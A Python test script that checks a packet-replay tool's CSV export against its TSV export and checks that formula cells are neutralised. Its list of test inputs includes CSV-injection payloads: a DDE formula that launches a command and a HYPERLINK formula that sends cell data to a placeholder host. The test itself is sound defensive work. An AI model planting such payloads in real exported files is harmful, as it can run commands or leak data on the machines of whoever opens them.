#!/usr/bin/env python3
"""The table as comma-separated values holds what the tab-separated one does,
and no cell of it is a formula to a spreadsheet.

usage: list-csv.py SAN_DIR PLAIN_DIR [TEST...]
                                          (CORPUS: a folder of real captures)
"""
import concurrent.futures
import csv
import io
import os
import pathlib
import re
import subprocess

from playback import *

TOP = pathlib.Path(__file__).resolve().parents[2]
CORPUS = pathlib.Path(os.environ.get("CORPUS", TOP / "../shared/corpus"))
# What a spreadsheet evaluates (OWASP, "CSV Injection").
FORMULA = re.compile(r"[=+\-@\t\r]")
TARGETS = ["/plain", "=1+2", "+1", "-1", "@SUM(1)", "'=1", "'", "-", "=",
           '/a"b', "/a,b;c", '=HYPERLINK("//h?"&A1,"x")', "/tab\tin", "\t=1",
           "/\x7f\xe9", "/two", "=cmd|'/C calc'!A0"]


def listing(path, kind):
    return subprocess.run([SAN / "replay", "--list", "--format", kind, path],
                          check=True, capture_output=True,
                          timeout=PATIENCE * 6).stdout


def rows_of_csv(data):
    return list(csv.reader(io.StringIO(data.decode("ascii"), newline=""),
                           strict=True))


def without_apostrophe(cell):
    return cell[1:] if cell.startswith("'") else cell


def check(path):
    """How many rows there are, the same in both."""
    table, values = listing(path, "tsv"), listing(path, "csv")
    want = [n.split("\t") for n in table.decode("ascii").split("\n")[:-1]]
    got = rows_of_csv(values)
    same([[without_apostrophe(c) for c in row] for row in got], want, path)
    for row in got:
        for cell in row:
            true(cell == "-" or not FORMULA.match(cell), f"{path}: {cell}")
    same(len(re.findall(rb"\r\n", values)), len(want), "line ends")
    true(not re.search(rb"[^\r\n -~]", values), f"{path}: bytes")
    return len(want) - 1


def hostile_cells():
    with Capture("hostile.pcap") as c:
        for target in TARGETS:
            c.talk((request(target, target), ok("x")))
            c.talk((request(target, "/", method="+GET"), ok("x")))
    rows = check(c.path)
    true(rows > len(TARGETS), f"{rows} rows")
    cells = {c for row in rows_of_csv(listing(c.path, "csv")) for c in row}
    for cell in ("'=1+2", "'+1", "'-1", "'@SUM(1)", "''=1", "'+GET", '/a"b',
                 "/a,b;c", "/plain", "-"):
        true(cell in cells, f"no cell {cell} in {sorted(cells)}")


def the_generator():
    for name in "drive-by", "p08-fields", "p23-no-response", "range-http2":
        true(check(Scenario(name).path), name)


def real_captures():
    if not CORPUS.is_dir():
        return f"no corpus at {CORPUS} (set CORPUS)"
    paths = [p for p in sorted((CORPUS / "captures").iterdir())
             if re.search(r"cap(ng)?(\.gz|\.zst)?$", p.name)]
    with concurrent.futures.ThreadPoolExecutor(os.cpu_count()) as pool:
        rows = sum(pool.map(check, paths))
    true(rows > 1000, f"{rows} rows")
    print(f"{rows} rows of {len(paths)} captures")


def for_the_list_alone():
    for kind in "csv", "har":
        done = subprocess.run([SAN / "replay", "--check", "--format", kind,
                               "x.pcap"], capture_output=True, text=True,
                              timeout=PATIENCE)
        same((done.returncode, done.stdout), (2, ""), done.stderr)


run([hostile_cells, the_generator, real_captures, for_the_list_alone])
